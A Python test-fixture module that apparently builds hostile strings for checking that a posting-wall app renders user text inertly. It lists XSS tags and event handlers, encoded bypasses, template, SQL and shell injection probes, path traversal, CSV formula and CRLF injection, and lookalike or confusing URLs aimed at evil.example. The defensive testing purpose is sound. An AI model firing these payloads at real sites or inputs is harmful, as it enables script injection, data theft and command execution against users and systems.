"""What people have tried on walls: markup, half markup, entities, addresses, templates, letters that mislead.

Each would set `window.hit` or ask `evil.example`, if anybody took it for more than letters.
"""

import json
from collections.abc import Iterator
from itertools import product
from typing import Final

from tests.shared import fixtures

RUN: Final = "window.hit=1"
_TAGS: Final = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT >",
    "<script/x>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src=//evil.example/p.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/b)}}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><button>go</button></form>",
    "<a href=javascript:{run}>x</a>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<textarea></textarea><script>{run}</script>",
    "<x onclick={run} tabindex=0 autofocus onfocus={run}>",
    "<plaintext>",
    "<xmp><script>{run}</script></xmp>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<portal src=//evil.example/>",
    "<dialog open><script>{run}</script></dialog>",
    "<slot onslotchange={run}>",
    "<isindex action=javascript:{run}>",
    "<button popovertarget=x onbeforetoggle={run}>x</button>",
)
_BREAKS: Final = ("", '">', "'>", "</p>", "</article>", "</title>", "</textarea>", "</script>", "--></style>")
_ENTITIES: Final = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;img src=x onerror={run}&#x3e;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "&ltimg src=x onerror={run}&gt",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\ufeff<script>{run}</script>",
    "<\u200bscript>{run}</script>",
    "<scr\u00adipt>{run}</script>",
    "\u2028<script>{run}</script>",
    "&NewLine;<script>{run}</script>",
    "&colon;&lpar;&rpar;",
    "&Tab;javascript&colon;{run}",
    "&#00000000000060;script&#62;",
)
_ATTRIBUTES: Final = (
    '" onmouseover="{run}',
    "' onmouseover='{run}",
    "` onmouseover=`{run}",
    '" autofocus onfocus="{run}',
    '" style="position:fixed;inset:0',
    '"onload="{run}',
    '\x0b" onclick="{run}',
    '" data-verb="approve',
    '" data-key="floor:1" class="post',
    '"><button data-verb="approve">',
    'x" lang=""><script>{run}</script>',
    "{{{{7*7}}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{% raw %}}",
    "{{{{config.items()}}}}",
    "{{{{''.__class__.__mro__}}}}",
    "{{7*7}}",
    "%(name)s",
    "%s%s%s%n",
    "{{0}}",
    "__proto__",
    "constructor",
    "toString",
    "NaN",
    "null",
    "undefined",
    "true",
    "-1",
    "1e309",
    "'; DROP TABLE posts; --",
    '" OR 1=1 --',
    "$(touch /tmp/hit)",
    "`touch /tmp/hit`",
    "|| ping evil.example",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1-1",
    "\r\nSet-Cookie: hit=1",
    "\r\n\r\n<script>{run}</script>",
    "data:text/html,<script>{run}</script>",
)
_LETTERS: Final = (
    "\u202egnihtemos\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u202a\u202b\u202d\u202e",
    "pаypal.com",
    "аpple",
    "Z̸̡̢̛͔͓̘̠a̴l̵g̶o̷" * 8,
    "ﷺ" * 30,
    "𒐫" * 30,
    "𓀐" * 40,
    "\U000e0041\U000e0042",
    "👩‍👩‍👧‍👦" * 40,
    "🇦" * 40,
    "☠️" * 60,
    "­" * 100,
    "\u200b" * 100,
    "\u00a0" * 100,
    "W" * 500,
    "i" * 2000,
    "_" * 300,
    "а̀" * 200,
    "ก็็็็็็็็็็็็็็็็็็็็" * 5,
    "\u0378\uffff\ufffe",
    "\ud7ff\ue000",
    "A\u030a" * 50,
    "ẛ̣" * 40,
    "שלום " * 80,
    "مرحبا " * 80,
    "漢字" * 300,
    "# #pink11 ##pink11 #pink11#pink11",
    "@@@@@ @a@b@c",
    "https://" * 30,
    "\n" * 50 + "x",
    "\t" * 50,
)
_ADDRESSES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "vbscript:{run}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:evil.example",
    "https:///evil.example",
    "https://pink11.example@evil.example/",
    "https://evil.example\\@pink11.example/",
    "https://pink11.example.evil.example/",
    "http://[::1]/",
    "http://2130706433/",
    "https://xn--pypal-4ve.com/",
    "https://раypal.com/",
    'https://evil.example/" onclick="{run}',
    "https://evil.example/<script>{run}</script>",
    "https://evil.example/%00",
    "view-source:https://evil.example/",
    "intent://evil.example#Intent;end",
    "tel:+49110",
    "mailto:a@evil.example?bcc=all",
    "https://evil.example/#" + "a" * 1500,
    "about:blank",
    "ftp://evil.example/",
)


def _written() -> Iterator[str]:
    for words in (*_TAGS, *_ENTITIES, *_ATTRIBUTES, *_ADDRESSES):
        yield words.format(run=RUN)
    yield from _LETTERS
    for start, words in product(_BREAKS[1:], _TAGS[:8]):
        yield start + words.format(run=RUN)


WRITTEN: Final = tuple(dict.fromkeys(_written()))
ADDRESSES: Final = tuple(words.format(run=RUN) for words in _ADDRESSES)


def all_of_them() -> tuple[str, ...]:
    """Those of ours, and the Big List of Naughty Strings."""
    naughty = json.loads(fixtures("text", "blns.json").read_text())
    return tuple(dict.fromkeys((*WRITTEN, *filter(None, naughty))))


def storable(words: str) -> str:
    """Without what no database keeps; every source leaves these out as well."""
    return words.replace("\0", "").encode(errors="ignore").decode()
